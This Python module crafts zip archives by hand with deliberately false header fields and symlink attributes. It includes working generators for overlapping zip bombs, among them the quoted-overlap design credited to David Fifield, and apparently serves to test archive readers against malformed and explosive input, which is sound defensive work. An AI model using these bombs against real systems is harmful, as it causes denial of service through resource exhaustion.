"""Zip archives by hand, entry by entry, for what `zipfile` refuses to write."""

import struct
import zlib
from dataclasses import dataclass, field

UTF8_FLAG, ENCRYPTED_FLAG, DESCRIPTOR_FLAG = 0x800, 0x1, 0x8
STORED, DEFLATED, BZIP2, LZMA = 0, 8, 12, 14
SYMLINK_ATTRIBUTES = 0o120777 << 16


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@dataclass
class Entry:
    """One entry; `packed`, `offset`, `claimed_size` and `crc` stand in the directory as given, true or not."""

    name: bytes = b"a.png"
    data: bytes = b"data"
    flags: int = 0
    method: int = STORED
    attributes: int = 0
    packed: bytes | None = None
    offset: int | None = None
    claimed_size: int | None = None
    claimed_packed_size: int | None = None
    crc: int | None = None
    extra: bytes = b""
    version: int = 20
    at: int = field(default=0, init=False)

    def sizes(self) -> tuple[int, int, int]:
        stored = self.body()
        return (
            zlib.crc32(self.data) if self.crc is None else self.crc,
            len(stored) if self.claimed_packed_size is None else self.claimed_packed_size,
            len(self.data) if self.claimed_size is None else self.claimed_size,
        )

    def body(self) -> bytes:
        if self.packed is not None:
            return self.packed
        return deflated(self.data) if self.method == DEFLATED else self.data

    def local(self) -> bytes:
        values = (20, self.flags, self.method, 0, 0x21, *self.sizes(), len(self.name), 0)
        return struct.pack("<4s5H3L2H", b"PK\x03\x04", *values) + self.name + self.body()

    def central(self) -> bytes:
        head = (20, self.version, self.flags, self.method, 0, 0x21, *self.sizes(), len(self.name), len(self.extra), 0, 0, 0)
        offset = self.at if self.offset is None else self.offset
        return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *head, self.attributes, offset) + self.name + self.extra


def archive(
    *entries: Entry, prefix: bytes = b"", declared_entries: int | None = None, declared_size: int | None = None
) -> bytes:
    """The entries one after the other, their directory, and its end record, which may lie."""
    body = bytearray(prefix)
    for entry in entries:
        entry.at = len(body) - len(prefix)
        body += entry.local()
    directory = b"".join(entry.central() for entry in entries)
    count = len(entries) if declared_entries is None else declared_entries
    size = len(directory) if declared_size is None else declared_size
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, len(body) - len(prefix), 0)
    return bytes(body) + directory + end


def full_overlap_bomb(copies: int, *, unpacked: int) -> bytes:
    """Many directory entries that all share one entry's bytes."""
    kernel = Entry(data=bytes(unpacked), method=DEFLATED)
    packed = kernel.body()
    shadows = [Entry(data=kernel.data, method=DEFLATED, packed=packed, offset=0) for _ in range(copies)]
    body = kernel.local()
    directory = b"".join(shadow.central() for shadow in shadows)
    return body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), len(body), 0)


def quoted_overlap_bomb(copies: int, *, unpacked: int) -> bytes:
    """David Fifield's bomb: each entry quotes the header of the next in a stored DEFLATE block, then shares its data."""
    kernel = deflated(bytes(unpacked))
    body, entries = kernel, list[Entry]()
    plain = bytes(unpacked)
    for number in reversed(range(copies)):
        quoted = b"" if not entries else body[: 30 + len(entries[-1].name)]
        block = b"" if not quoted else struct.pack("<BHH", 0, len(quoted), len(quoted) ^ 0xFFFF)
        plain = quoted + plain
        entry = Entry(name=b"%06d.png" % number, data=plain, method=DEFLATED, packed=block + body)
        body = entry.local()
        entries.append(entry)
    return _with_nested_offsets(body, list(reversed(entries)))


def _with_nested_offsets(body: bytes, entries: list[Entry]) -> bytes:
    for entry in entries:
        entry.at = len(body) - len(entry.local())
    directory = b"".join(entry.central() for entry in entries)
    return (
        body
        + directory
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    )
